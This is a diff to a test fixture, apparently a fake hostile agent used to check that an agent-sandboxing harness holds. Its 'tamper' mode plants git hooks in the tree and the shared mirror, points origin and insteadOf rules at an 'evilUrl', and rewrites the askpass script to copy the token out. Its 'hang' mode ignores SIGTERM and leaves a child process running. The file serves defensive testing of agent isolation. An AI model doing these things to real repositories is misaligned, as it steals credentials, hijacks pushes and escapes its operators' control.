@@ -10,11 +10,11 @@
 //   tamper - a hostile agent, steered by stateDir/tamper.json { hooks?, evilUrl?, realPrefix?, askpass? }:
 //            plants hooks that record in stateDir/hooks-ran when they run, points
 //            remote.origin.url and url.<evilUrl>.insteadOf <realPrefix> at another server
-//            through the working tree's (shared) git config, rewrites the askpass script at
+//            in its tree's and the mirror's git config (unsandboxed only), rewrites the askpass script at
 //            `askpass` to copy the token to stateDir/stolen-token, then edits README like `edit`
 import { execFileSync, spawn } from 'node:child_process';
 import { appendFileSync, chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
-import { isAbsolute, join } from 'node:path';
+import { dirname, join } from 'node:path';
 
 const [mode = 'edit', stateDir] = process.argv.slice(2);
 
@@ -46,7 +46,8 @@ switch (mode) {
     break;
   case 'hang': {
     process.on('SIGTERM', () => process.stdout.write('fake agent: ignoring SIGTERM\n'));
-    const child = spawn('sleep', ['1000'], { stdio: 'ignore' });
+    // The state folder in its command line lets a test find it from outside any namespace.
+    const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1 << 30)', stateDir ?? ''], { stdio: 'ignore' });
     if (stateDir) writeFileSync(join(stateDir, 'pids.json'), JSON.stringify({ leader: process.pid, child: child.pid }));
     process.stdout.write('fake agent: hanging\n');
     setInterval(() => {}, 1 << 30);
@@ -55,10 +56,11 @@ switch (mode) {
   case 'tamper': {
     const plan = existsSync(join(stateDir, 'tamper.json')) ? JSON.parse(readFileSync(join(stateDir, 'tamper.json'), 'utf8')) : {};
     const gitOut = (args) => execFileSync('git', args, { encoding: 'utf8' }).trim();
+    // The tree borrows the mirror's objects: its alternates file names the mirror.
+    const mirror = dirname(readFileSync('.git/objects/info/alternates', 'utf8').trim());
     if (plan.hooks) {
-      for (const flag of ['--git-common-dir', '--git-dir']) {
-        const dir = gitOut(['rev-parse', flag]);
-        const hooks = join(isAbsolute(dir) ? dir : join(process.cwd(), dir), 'hooks');
+      for (const dir of [join(process.cwd(), '.git'), mirror]) {
+        const hooks = join(dir, 'hooks');
         mkdirSync(hooks, { recursive: true });
         for (const name of ['pre-commit', 'commit-msg', 'post-commit', 'pre-push', 'reference-transaction', 'post-checkout']) {
           writeFileSync(join(hooks, name), `#!/bin/sh\necho "${name}" >> "${join(stateDir, 'hooks-ran')}"\n`);
@@ -67,9 +69,11 @@ switch (mode) {
       }
     }
     if (plan.evilUrl) {
-      gitOut(['config', 'remote.origin.url', `${plan.evilUrl}/stolen.git`]);
-      gitOut(['config', `url.${plan.evilUrl}/.insteadOf`, plan.realPrefix]);
-      gitOut(['config', `url.${plan.evilUrl}/.pushInsteadOf`, plan.realPrefix]);
+      for (const where of [[], ['--git-dir', mirror]]) {
+        gitOut([...where, 'config', 'remote.origin.url', `${plan.evilUrl}/stolen.git`]);
+        gitOut([...where, 'config', `url.${plan.evilUrl}/.insteadOf`, plan.realPrefix]);
+        gitOut([...where, 'config', `url.${plan.evilUrl}/.pushInsteadOf`, plan.realPrefix]);
+      }
     }
     if (plan.askpass) {
       const stolen = join(stateDir, 'stolen-token');
